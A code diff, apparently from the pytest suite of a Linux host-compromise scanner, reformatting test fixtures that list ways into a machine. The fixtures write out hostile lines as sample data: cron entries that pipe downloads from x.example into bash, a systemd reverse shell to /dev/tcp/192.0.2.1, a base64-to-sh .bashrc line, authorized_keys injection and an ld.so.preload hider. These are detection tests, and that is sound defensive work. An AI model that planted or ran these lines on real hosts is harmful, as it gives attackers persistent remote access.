@@ -30,7 +30,7 @@ def signs(tree: Tree, sockets: str = "", connections: str = "") -> list[Finding]
 
 USERS = "root:x:0:0:root:/root:/bin/bash\nuser:x:1000:1000::/home/user:/bin/bash\n"
 QUIET = {
-    "/etc/os-release": 'ID=debian\nVERSION_CODENAME=bookworm\n',
+    "/etc/os-release": "ID=debian\nVERSION_CODENAME=bookworm\n",
     "/etc/passwd": USERS,
     "/etc/sudoers": "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n",
     "/etc/ssh/sshd_config": "Include /etc/ssh/sshd_config.d/*.conf\nX11Forwarding yes\n",
@@ -39,7 +39,7 @@ QUIET = {
     "/etc/apt/sources.list": "deb http://deb.debian.org/debian bookworm main\n",
     "/root/.ssh/authorized_keys": f"# mine\nssh-ed25519 {OWN} me@desk\n",
     "/proc/7/comm": "bash\n",
-}  # fmt: skip
+}
 
 
 def test_a_rig_of_ones_own_is_quiet(tmp_path: Path) -> None:
@@ -54,38 +54,89 @@ def test_a_rig_of_ones_own_is_quiet(tmp_path: Path) -> None:
     [
         ({"/proc/9/comm": "x11vnc\n"}, "remote control", "critical", "x11vnc runs"),
         ({"/proc/9/comm": "anydesk\n"}, "remote control", "critical", "runs"),
-        ({"/root/.ssh/authorized_keys": f"ssh-ed25519 {OTHER} support@hive.example\n"},
-         "keys", "critical", "a vendor's"),
-        ({"/home/user/.ssh/authorized_keys2": f'from="10.0.0.1" ssh-ed25519 {OTHER} bob\n'},
-         "keys", "warning", "not one of yours"),
+        (
+            {"/root/.ssh/authorized_keys": f"ssh-ed25519 {OTHER} support@hive.example\n"},
+            "keys",
+            "critical",
+            "a vendor's",
+        ),
+        (
+            {"/home/user/.ssh/authorized_keys2": f'from="10.0.0.1" ssh-ed25519 {OTHER} bob\n'},
+            "keys",
+            "warning",
+            "not one of yours",
+        ),
         ({"/etc/passwd": f"{USERS}toor:x:0:0::/root:/bin/sh\n"}, "users", "critical", "root by"),
         ({"/etc/sudoers.d/x": "sys ALL=(ALL) NOPASSWD: ALL\n"}, "sudo", "warning", "without a"),
-        ({"/etc/cron.d/x": "* * * * * root curl -s http://x.example/a.sh | bash\n"},
-         "starts by itself", "critical", "runs what it fetches"),
-        ({"/var/spool/cron/crontabs/root": '@reboot bash -c "$(wget -qO- x.example)"\n'},
-         "starts by itself", "critical", "runs what it fetches"),
-        ({"/etc/rc.local": "#!/bin/sh\nnohup /dev/shm/.x/kswapd &\n"},
-         "starts by itself", "warning", "everybody may write"),
-        ({"/etc/systemd/system/u.service": "ExecStart=/bin/bash -i >& /dev/tcp/192.0.2.1/99\n"},
-         "remote control", "critical", "is started as a unit"),
-        ({"/root/.bashrc": "echo aGk= | base64 -d | sh\n"},
-         "starts by itself", "critical", "base64"),
-        ({"/etc/cron.daily/k": "echo key >> /root/.ssh/authorized_keys\n"},
-         "starts by itself", "critical", "who may log in"),
+        (
+            {"/etc/cron.d/x": "* * * * * root curl -s http://x.example/a.sh | bash\n"},
+            "starts by itself",
+            "critical",
+            "runs what it downloads",
+        ),
+        (
+            {"/var/spool/cron/crontabs/root": '@reboot bash -c "$(wget -qO- x.example)"\n'},
+            "starts by itself",
+            "critical",
+            "runs what it downloads",
+        ),
+        (
+            {"/etc/rc.local": "#!/bin/sh\nnohup /dev/shm/.x/kswapd &\n"},
+            "starts by itself",
+            "warning",
+            "everybody may write",
+        ),
+        (
+            {"/etc/systemd/system/u.service": "ExecStart=/bin/bash -i >& /dev/tcp/192.0.2.1/99\n"},
+            "remote control",
+            "critical",
+            "is started as a unit",
+        ),
+        (
+            {"/root/.bashrc": "echo aGk= | base64 -d | sh\n"},
+            "starts by itself",
+            "critical",
+            "base64",
+        ),
+        (
+            {"/etc/cron.daily/k": "echo key >> /root/.ssh/authorized_keys\n"},
+            "starts by itself",
+            "critical",
+            "who may log in",
+        ),
         ({"/etc/ssh/sshd_config.d/00-deeprig.conf": ""}, "sshd", "warning", "a password"),
-        ({"/etc/ssh/sshd_config": "Include sshd_config.d/*.conf\nPermitRootLogin\tyes\n"},
-         "sshd", "warning", "root"),
+        (
+            {"/etc/ssh/sshd_config": "Include sshd_config.d/*.conf\nPermitRootLogin\tyes\n"},
+            "sshd",
+            "warning",
+            "root",
+        ),
         ({"/etc/ssh/sshd_config": "X11Forwarding no\n"}, "sshd", "warning", "a password"),
-        ({"/etc/ssh/sshd_config": "PasswordAuthentication=\"no\"\nPermitEmptyPasswords = yes\n"},
-         "sshd", "critical", "let in"),
+        (
+            {"/etc/ssh/sshd_config": 'PasswordAuthentication="no"\nPermitEmptyPasswords = yes\n'},
+            "sshd",
+            "critical",
+            "let in",
+        ),
         ({"/etc/ld.so.preload": "/usr/lib/libhide.so\n"}, "ld.so.preload", "critical", "loaded"),
-        ({"/etc/apt/sources.list.d/h.list": "deb http://x.example/repo /\n"},
-         "repositories", "warning", "plain http"),
-        ({"/etc/apt/sources.list.d/h.sources":
-          "Types: deb\nURIs: http://x.example/repo\nSuites: /\nTrusted: yes\n"},
-         "repositories", "critical", "without a signature"),
+        (
+            {"/etc/apt/sources.list.d/h.list": "deb http://x.example/repo /\n"},
+            "repositories",
+            "warning",
+            "plain http",
+        ),
+        (
+            {
+                "/etc/apt/sources.list.d/h.sources": (
+                    "Types: deb\nURIs: http://x.example/repo\nSuites: /\nTrusted: yes\n"
+                )
+            },
+            "repositories",
+            "critical",
+            "without a signature",
+        ),
     ],
-)  # fmt: skip
+)
 def test_ways_in(
     tmp_path: Path, files: dict[str, str], check: str, status: str, words: str
 ) -> None:
